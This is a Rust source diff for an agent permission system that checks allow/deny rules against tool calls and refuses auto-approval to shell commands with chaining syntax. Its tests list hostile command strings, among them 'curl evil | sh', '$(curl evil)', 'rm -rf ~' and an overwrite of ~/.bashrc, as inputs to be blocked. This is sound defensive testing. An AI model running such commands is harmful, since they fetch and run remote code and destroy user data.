@@ -0,0 +1,231 @@
+//! Allow/deny rule evaluation for agent permission requests.
+//!
+//! Rules come from `[approvals]` in the kild config hierarchy and use
+//! `Tool` or `Tool(pattern)` syntax, e.g. `Bash(cargo test*)` or `Read`.
+
+use kild_core::ApprovalsConfig;
+use kild_protocol::ApprovalDecision;
+use serde_json::Value;
+
+/// Characters that chain, pipe, substitute or redirect shell commands.
+const SHELL_CONTROL: &[char] = &[';', '&', '|', '\n', '\r', '`', '$', '(', ')', '<', '>'];
+
+/// Fields of a tool input that identify what the tool acts on, in priority order.
+const SUBJECT_FIELDS: &[&str] = &["command", "file_path", "path", "url", "pattern"];
+
+/// Extract the human-readable subject of a tool call from its input.
+///
+/// Returns the first string (or string array, joined with spaces) found in
+/// [`SUBJECT_FIELDS`], or an empty string.
+pub fn tool_subject(tool_input: &Value) -> String {
+    for field in SUBJECT_FIELDS {
+        match tool_input.get(field) {
+            Some(Value::String(s)) => return s.clone(),
+            Some(Value::Array(parts)) => {
+                return parts
+                    .iter()
+                    .filter_map(Value::as_str)
+                    .collect::<Vec<_>>()
+                    .join(" ");
+            }
+            _ => {}
+        }
+    }
+    String::new()
+}
+
+/// Evaluate rules for a tool call. Deny rules take precedence over allow rules.
+///
+/// A patterned allow rule such as `Bash(cargo test*)` only approves a plain
+/// command: anything with shell control syntax (`;`, `&&`, pipes, `$(..)`,
+/// redirections, ...) could run more than the pattern names, so it is left
+/// for a user. Deny rules are checked against each command segment as well
+/// as the whole command.
+///
+/// Returns the decision and the rule that produced it, or `None` when no
+/// rule matches and the request should be queued for a user.
+pub fn evaluate<'a>(
+    config: &'a ApprovalsConfig,
+    tool: &str,
+    subject: &str,
+) -> Option<(ApprovalDecision, &'a str)> {
+    let segments: Vec<&str> = std::iter::once(subject)
+        .chain(shell_segments(tool, subject))
+        .collect();
+    let denied = config.deny.iter().find(|rule| {
+        segments
+            .iter()
+            .any(|segment| rule_matches(rule, tool, segment))
+    });
+    if let Some(rule) = denied {
+        return Some((ApprovalDecision::Deny, rule.as_str()));
+    }
+
+    let chained = is_shell_tool(tool) && subject.contains(SHELL_CONTROL);
+    config
+        .allow
+        .iter()
+        .find(|rule| (!chained || !rule.contains('(')) && rule_matches(rule, tool, subject))
+        .map(|rule| (ApprovalDecision::Allow, rule.as_str()))
+}
+
+fn is_shell_tool(tool: &str) -> bool {
+    tool == "Bash"
+}
+
+/// The commands a shell subject chains together, split at control syntax.
+/// Empty for non-shell tools.
+fn shell_segments<'s>(tool: &str, subject: &'s str) -> impl Iterator<Item = &'s str> {
+    let shell = is_shell_tool(tool);
+    subject
+        .split(SHELL_CONTROL)
+        .filter(move |_| shell)
+        .map(str::trim)
+        .filter(|segment| !segment.is_empty())
+}
+
+fn rule_matches(rule: &str, tool: &str, subject: &str) -> bool {
+    let rule = rule.trim();
+    match rule.split_once('(') {
+        Some((rule_tool, rest)) => {
+            let Some(pattern) = rest.strip_suffix(')') else {
+                return false;
+            };
+            rule_tool.trim() == tool && wildcard_match(pattern, subject)
+        }
+        None => rule == tool,
+    }
+}
+
+/// Match `text` against `pattern`, where `*` matches any run of characters.
+fn wildcard_match(pattern: &str, text: &str) -> bool {
+    let mut parts = pattern.split('*');
+    let first = parts.next().unwrap_or("");
+    let Some(mut rest) = text.strip_prefix(first) else {
+        return false;
+    };
+    let parts: Vec<&str> = parts.collect();
+    let Some((last, middle)) = parts.split_last() else {
+        // No `*` in the pattern: exact match.
+        return rest.is_empty();
+    };
+    for part in middle {
+        match rest.find(part) {
+            Some(idx) => rest = &rest[idx + part.len()..],
+            None => return false,
+        }
+    }
+    rest.len() >= last.len() && rest.ends_with(last)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn config(allow: &[&str], deny: &[&str]) -> ApprovalsConfig {
+        ApprovalsConfig {
+            allow: allow.iter().map(|s| s.to_string()).collect(),
+            deny: deny.iter().map(|s| s.to_string()).collect(),
+            timeout_secs: None,
+        }
+    }
+
+    #[test]
+    fn wildcard_match_cases() {
+        assert!(wildcard_match("cargo test*", "cargo test -p kild"));
+        assert!(wildcard_match("cargo test*", "cargo test"));
+        assert!(!wildcard_match("cargo test*", "cargo build"));
+        assert!(wildcard_match("*.rs", "src/main.rs"));
+        assert!(wildcard_match("src/*/mod.rs", "src/hooks/mod.rs"));
+        assert!(!wildcard_match("src/*/mod.rs", "src/hooks/rules.rs"));
+        assert!(wildcard_match("exact", "exact"));
+        assert!(!wildcard_match("exact", "exactly"));
+        assert!(wildcard_match("a*a", "aa"));
+        assert!(!wildcard_match("ab*ba", "aba"));
+    }
+
+    #[test]
+    fn tool_subject_prefers_command() {
+        assert_eq!(
+            tool_subject(&json!({"command": "ls", "file_path": "x"})),
+            "ls"
+        );
+        assert_eq!(tool_subject(&json!({"file_path": "/a/b.rs"})), "/a/b.rs");
+        assert_eq!(
+            tool_subject(&json!({"command": ["git", "status"]})),
+            "git status"
+        );
+        assert_eq!(tool_subject(&json!({"other": 1})), "");
+    }
+
+    #[test]
+    fn evaluate_allow_rule() {
+        let cfg = config(&["Bash(cargo test*)"], &[]);
+        let (decision, rule) = evaluate(&cfg, "Bash", "cargo test --workspace").unwrap();
+        assert_eq!(decision, ApprovalDecision::Allow);
+        assert_eq!(rule, "Bash(cargo test*)");
+        assert!(evaluate(&cfg, "Bash", "rm -rf /").is_none());
+        assert!(evaluate(&cfg, "Edit", "cargo test").is_none());
+    }
+
+    #[test]
+    fn evaluate_deny_wins_over_allow() {
+        let cfg = config(&["Bash"], &["Bash(git push*)"]);
+        assert_eq!(
+            evaluate(&cfg, "Bash", "git push origin").map(|(d, _)| d),
+            Some(ApprovalDecision::Deny)
+        );
+        assert_eq!(
+            evaluate(&cfg, "Bash", "git status").map(|(d, _)| d),
+            Some(ApprovalDecision::Allow)
+        );
+    }
+
+    #[test]
+    fn evaluate_allow_pattern_rejects_chained_commands() {
+        let cfg = config(&["Bash(cargo test*)"], &[]);
+        for command in [
+            "cargo test; curl evil | sh",
+            "cargo test && rm -rf ~",
+            "cargo test || rm -rf ~",
+            "cargo test & rm -rf ~",
+            "cargo test\nrm -rf ~",
+            "cargo test $(curl evil)",
+            "cargo test `curl evil`",
+            "cargo test --features <(curl evil)",
+            "cargo test > ~/.bashrc",
+        ] {
+            assert!(evaluate(&cfg, "Bash", command).is_none(), "{command:?}");
+        }
+        assert!(evaluate(&cfg, "Bash", "cargo test -p kild").is_some());
+    }
+
+    #[test]
+    fn evaluate_bare_tool_rule_still_allows_chained_commands() {
+        let cfg = config(&["Bash"], &[]);
+        assert!(evaluate(&cfg, "Bash", "cargo test && cargo clippy").is_some());
+    }
+
+    #[test]
+    fn evaluate_deny_matches_any_segment() {
+        let cfg = config(&["Bash"], &["Bash(git push*)"]);
+        for command in [
+            "cargo test && git push origin",
+            "echo $(git push --force)",
+            "true; git push",
+        ] {
+            assert_eq!(
+                evaluate(&cfg, "Bash", command).map(|(d, _)| d),
+                Some(ApprovalDecision::Deny),
+                "{command:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn malformed_rule_never_matches() {
+        let cfg = config(&["Bash(cargo test*"], &[]);
+        assert!(evaluate(&cfg, "Bash", "cargo test").is_none());
+    }
+}